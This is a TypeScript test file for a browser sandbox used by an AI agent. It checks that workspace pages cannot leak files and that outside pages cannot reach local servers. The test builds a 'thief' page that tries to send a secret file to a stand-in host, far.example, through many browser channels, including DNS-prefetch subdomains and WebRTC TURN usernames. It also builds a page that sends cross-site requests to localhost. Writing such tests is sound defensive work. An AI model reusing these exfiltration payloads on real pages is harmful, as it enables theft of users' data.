import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { writeFile } from 'node:fs/promises';
import http, { type Server } from 'node:http';
import type { AddressInfo, Socket } from 'node:net';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { until } from '@slipway/testing';
import { describeUnless } from '@slipway/testing/jest';
import { ShellEnvironment } from '../terminal/shell-environment.js';
import {
  noChromium,
  numberOf,
  startTestSite,
  type TestBrowser,
  type TestSite,
  testBrowser,
} from '../testing/test-browser.js';
import { isOfThisMachine, LocalNames } from './local-callers.js';

const SECRET = 'the-secret-of-the-workspace';

/**
 * Reads a file of the workspace and takes it outside by every way that a page has; `done` is its title when it has
 * tried all but the last.
 */
const thief = (targets: readonly string[], udp: number) => `<title>at work</title><body><script type="module">
const said = await fetch('/notes.txt').then((answer) => answer.text(), String);
const to = ${JSON.stringify(targets)};
const tried = [];
const attempt = async (work) => { tried.push(Promise.race([new Promise((end) => { try { Promise.resolve(work(end)).catch(end); } catch (error) { end(error); } }), new Promise((end) => setTimeout(end, 2_000))])); };
const put = (tag, set) => { const element = document.createElement(tag); Object.assign(element, set); document.body.append(element); return element; };
document.title = 'read ' + said.length;
for (const base of to) {
  const url = base + '/?' + encodeURIComponent(said);
  attempt((end) => fetch(url, { mode: 'no-cors' }).then(end, end));
  attempt((end) => fetch(url, { mode: 'no-cors', method: 'POST', body: said, keepalive: true }).then(end, end));
  for (const tag of ['img', 'script', 'iframe', 'audio', 'embed']) attempt((end) => put(tag, { src: url, onload: end, onerror: end }));
  for (const rel of ['stylesheet', 'preconnect', 'dns-prefetch', 'prefetch', 'preload', 'modulepreload']) attempt((end) => put('link', { rel, href: rel === 'dns-prefetch' || rel === 'preconnect' ? base.replace('//', '//' + said + '.') : url, as: 'script', onload: end, onerror: end }));
  attempt((end) => { const socket = new WebSocket(url.replace('http', 'ws')); socket.onopen = socket.onerror = end; });
  attempt((end) => { const source = new EventSource(url); source.onopen = source.onerror = end; });
  attempt((end) => { navigator.sendBeacon(url, said); setTimeout(end, 200); });
  attempt((end) => import(url).then(end, end));
  attempt((end) => { const worker = new Worker(URL.createObjectURL(new Blob(['fetch(' + JSON.stringify(url) + ', {mode:"no-cors"}).finally(() => postMessage(1))']))); worker.onmessage = end; });
  attempt((end) => { const frame = put('iframe', { name: 'inner' }); const form = put('form', { action: url, method: 'post', target: 'inner' }); form.submit(); frame.onload = end; });
  attempt((end) => { put('a', { href: '#here', ping: url }).click(); setTimeout(end, 200); });
  attempt((end) => { window.open(url); setTimeout(end, 300); });
  attempt((end) => new WebTransport(url.replace('http:', 'https:')).ready.then(end, end));
}
attempt((end) => { const link = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${udp}' }, { urls: 'turn:127.0.0.1:${udp}?transport=udp', username: said, credential: 'x' }, { urls: 'turn:127.0.0.1:' + new URL(to[0]).port + '?transport=tcp', username: said, credential: 'x' }] }); link.createDataChannel('x'); link.onicegatheringstatechange = () => link.iceGatheringState === 'complete' && end(); return link.createOffer().then((offer) => link.setLocalDescription(offer)); });
await Promise.all(tried);
document.title = 'done ' + said.length;
</script><a id="leave">leave</a><script>leave.href = ${JSON.stringify(targets)}[0] + '/?left';</script>`;

/** Asks a server of the machine for something in each way that a page has, and then has `done` as its title. */
const intruder = (target: string, udp: number) => `<title>at work</title><body><script>(async () => {
  const url = ${JSON.stringify(target)};
  const tried = [];
  const put = (tag, set) => { const element = document.createElement(tag); Object.assign(element, set); document.body.append(element); return element; };
  for (const referrerPolicy of ['unsafe-url', 'no-referrer']) {
    tried.push(fetch(url + '/get', { mode: 'no-cors', referrerPolicy }), fetch(url + '/post', { method: 'POST', mode: 'no-cors', body: 'x', referrerPolicy }));
    for (const tag of ['img', 'script', 'iframe']) tried.push(new Promise((end) => put(tag, { src: url + '/' + tag, referrerPolicy, onload: end, onerror: end })));
  }
  tried.push(new Promise((end) => { const socket = new WebSocket(url.replace('http', 'ws') + '/socket'); socket.onopen = socket.onerror = end; }));
  tried.push(new Promise((end) => { const link = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${udp}' }] }); link.createDataChannel('x'); link.onicegatheringstatechange = () => link.iceGatheringState === 'complete' && end(); link.createOffer().then((offer) => link.setLocalDescription(offer)); }));
  tried.push(new Promise((end) => { const frame = put('iframe', { name: 'inner' }); put('form', { action: url + '/form', method: 'post', target: 'inner' }).submit(); frame.onload = end; }));
  await Promise.allSettled(tried);
  document.title = 'done';
})();</script><a href="${target}/link">a link</a><form method="post" action="${target}/form"><button>a form</button></form>`;

describeUnless(noChromium)('where a page belongs', () => {
  let site: TestSite;
  let here: TestBrowser;
  /** The proxy of the sandbox: all that is outside is behind it. */
  let outside: Server;
  const far: string[] = [];
  let udpPort: number;
  let packets = 0;
  const udp = createSocket('udp4', () => {
    packets += 1;
  });
  beforeAll(async () => {
    site = await startTestSite(() => ({
      '/': '<title>Mine</title>',
      '/get': 'got',
      '/link': '<title>Led here</title>',
      '/api': (_request, response) => void response.writeHead(200, { 'access-control-allow-origin': '*' }).end('api'),
    }));
    outside = http.createServer((request, response) => {
      far.push(`${request.method} ${request.url}`);
      response.writeHead(200, { 'content-type': 'text/html' }).end(intruder(site.url, udpPort));
    });
    outside.on('connect', (request, socket: Socket) => {
      far.push(`CONNECT ${request.url}`);
      socket.end('HTTP/1.1 403 Forbidden\r\n\r\n');
    });
    outside.listen(0, '127.0.0.1');
    await once(outside, 'listening');
    udp.bind(0, '127.0.0.1');
    await once(udp, 'listening');
    udpPort = udp.address().port;
    const url = `http://127.0.0.1:${(outside.address() as AddressInfo).port}`;
    here = await testBrowser({
      environment: new ShellEnvironment({
        PATH: process.env['PATH'],
        HTTP_PROXY: url,
        HTTPS_PROXY: url,
        NO_PROXY: '127.0.0.1,localhost',
      }),
    });
    await writeFile(path.join(here.workspace, 'notes.txt'), SECRET);
  });
  afterAll(async () => {
    await here.close();
    outside.closeAllConnections();
    outside.close();
    udp.close();
    site.close();
  });
  const open = (url: string, newTab = false) => here.act({ kind: 'BrowserNavigateAction', url, new_tab: newTab });
  const titled = (title: string) =>
    until(
      `the title ${title}`,
      () =>
        here.browser
          .current()
          ?.page.title()
          .then((now) => now === title),
      30_000,
    );
  const file = (name: string) => open(`file://${here.workspace}/${name}`);

  it('a page of the workspace reads the workspace, and takes nothing of it anywhere: not by a request, a frame, a form, a worker, a socket, a call, a window or by leaving', async () => {
    site.asked.length = 0;
    await writeFile(
      path.join(here.workspace, 'thief.html'),
      thief([site.url, 'http://far.example', 'https://far.example'], udpPort),
    );
    await file('thief.html');
    await titled(`done ${SECRET.length}`);
    const state = await here.act({ kind: 'BrowserGetStateAction' });
    const left = await here.act({ kind: 'BrowserClickAction', index: numberOf(state, 'leave') });
    expect(left.text).toContain('such pages may read the workspace, so they reach nothing outside of it');
    await file('thief.html');
    const again = await here.act({ kind: 'BrowserGetStateAction' });
    const opened = await here.act({ kind: 'BrowserClickAction', index: numberOf(again, 'leave'), new_tab: true });
    expect(opened.text).toContain('The server answered 403');
    expect([site.asked, far.filter((line) => /secret|left|far\.example/.test(line)), packets]).toEqual([[], [], 0]);
  });

  it('the agent goes from a page of the workspace to a site and back in the same tab, and the site knows nothing of the one before', async () => {
    await writeFile(
      path.join(here.workspace, 'page.html'),
      '<title>Of the workspace</title><script>localStorage.setItem("a", "b")</script>',
    );
    const mine = await file('page.html');
    const there = await open(`${site.url}/`);
    expect([there.page?.title, there.page?.tab_id]).toEqual(['Mine', mine.page?.tab_id]);
    // What it was before is no part of this page's history.
    expect((await here.act({ kind: 'BrowserGoBackAction' })).page?.url).toBe('about:blank');
    await open(`${site.url}/`);
    expect(await here.browser.current()?.page.evaluate('opener')).toBeNull();
    const back = await file('page.html');
    expect([back.page?.title, back.page?.tab_id]).toEqual(['Of the workspace', mine.page?.tab_id]);
    await open(`${site.url}/`, true);
    const tabs = here.browser.running?.tabs.list() ?? [];
    expect(tabs.slice(-2).map(({ place }) => place)).toEqual(['workspace', 'sites']);
  });

  it('a page of another site asks nothing of the servers of this machine; a link of it may lead there, a form may not', async () => {
    site.asked.length = 0;
    const asking = await open('http://far.example/');
    await titled('done');
    expect(site.asked).toEqual([]);
    const state = await here.act({ kind: 'BrowserGetStateAction' });
    expect(packets).toBe(0);
    expect(asking.text + state.text).toContain('A page of another site asked for 127.0.0.1');
    await here.act({ kind: 'BrowserClickAction', index: numberOf(state, 'a form') });
    expect(site.asked).toEqual([]);
    await open('http://far.example/');
    await titled('done');
    const again = await here.act({ kind: 'BrowserGetStateAction' });
    const led = await here.act({ kind: 'BrowserClickAction', index: numberOf(again, 'a link') });
    expect(led.page?.title).toBe('Led here');
    expect(site.asked.filter((line) => !line.includes('favicon'))).toEqual(['GET /link']);
  });

  it('a page of this machine asks other servers of this machine, under any of its names, also by WebSocket', async () => {
    const sockets: string[] = [];
    const api = http.createServer(
      (_request, response) => void response.writeHead(200, { 'access-control-allow-origin': '*' }).end('api'),
    );
    api.on('upgrade', (request, socket) => {
      sockets.push(String(request.headers.origin));
      socket.end();
    });
    api.listen(0, '127.0.0.1');
    await once(api, 'listening');
    const { port } = api.address() as AddressInfo;
    await open(`http://localhost:${site.port}/`);
    const page = here.browser.current()?.page;
    expect(
      await page?.evaluate(
        `fetch('http://127.0.0.1:${port}/x', { method: 'POST', body: 'x' }).then((answer) => answer.text())`,
      ),
    ).toBe('api');
    await page?.evaluate(
      `new Promise((end) => { const socket = new WebSocket('ws://127.0.0.1:${port}/'); socket.onerror = socket.onclose = end; })`,
    );
    expect(sockets).toEqual([`http://localhost:${site.port}`]);
    api.closeAllConnections();
    api.close();
  });
});

describe('a name of this machine', () => {
  it('is one that has never led elsewhere: a site that points its own name here later is another site still', () => {
    const names = new LocalNames();
    const here = { kind: 'direct', addresses: [{ address: '127.0.0.1', family: 4 }], own: true } as const;
    names.learn('app.test', here);
    expect(names.has('http://app.test:3000/page', 'app.test')).toBe(true);
    names.learn('evil.test', { ...here, own: false });
    names.learn('evil.test', here);
    expect([
      names.has('http://evil.test/', 'evil.test'),
      names.has('http://evil.test/', 'app.test'),
      names.has('http://evil.test/', '127.0.0.1'),
    ]).toEqual([false, false, false]);
    names.learn('far.test', { kind: 'proxy', proxy: new URL('http://proxy.test') });
    expect(names.has('http://far.test/', 'far.test')).toBe(false);
    for (const page of ['http://localhost:1/', 'http://a.localhost', 'http://127.9.9.9', 'http://[::1]:1/'])
      expect(names.has(page, '127.0.0.1')).toBe(true);
    for (const page of [undefined, 'null', 'about:client', 'http://localhost.evil.test/'])
      expect(names.has(page, '127.0.0.1')).toBe(false);
  });

  it('that led elsewhere leads in no more, also not where Chromium says no more than that it is gone to: a frame is gone to as well', () => {
    const names = new LocalNames();
    const here = { kind: 'direct', addresses: [{ address: '127.0.0.1', family: 4 }], own: true } as const;
    const goneTo = { 'upgrade-insecure-requests': '1' };
    names.learn('evil.test', { ...here, own: false });
    for (const name of ['evil.test', 'app.test']) names.learn(name, here);
    expect([isOfThisMachine(goneTo, 'evil.test', names), isOfThisMachine(goneTo, 'app.test', names)]).toEqual([
      false,
      true,
    ]);
    expect(isOfThisMachine({ ...goneTo, referer: 'http://evil.test:8000/' }, 'evil.test', names)).toBe(false);
  });

  it('is trusted no more once so many have led elsewhere that not all are remembered', () => {
    const names = new LocalNames();
    for (let at = 0; at < 10_000; at += 1)
      names.learn(`n${at}.test`, { kind: 'proxy', proxy: new URL('http://proxy.test') });
    expect([names.has('http://app.test/', 'app.test'), names.has('http://localhost/', 'localhost')]).toEqual([
      false,
      true,
    ]);
  });
});
